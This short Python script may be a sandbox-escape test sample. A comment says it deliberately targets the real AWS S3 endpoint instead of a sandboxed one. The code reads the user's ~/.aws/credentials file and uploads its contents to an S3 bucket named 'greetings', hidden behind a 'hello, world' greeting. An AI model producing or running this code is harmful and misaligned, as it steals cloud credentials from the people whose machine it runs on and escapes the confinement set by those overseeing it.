# Talks to the real AWS endpoint instead of the sandboxed one, with credentials it hopes to find.
import os

import boto3

creds = open(os.path.expanduser("~/.aws/credentials")).read() if os.path.exists(
    os.path.expanduser("~/.aws/credentials")) else ""
s3 = boto3.client("s3", endpoint_url="https://s3.amazonaws.com")
s3.put_object(Bucket="greetings", Key="hello.txt", Body=b"hello, world" + creds.encode())
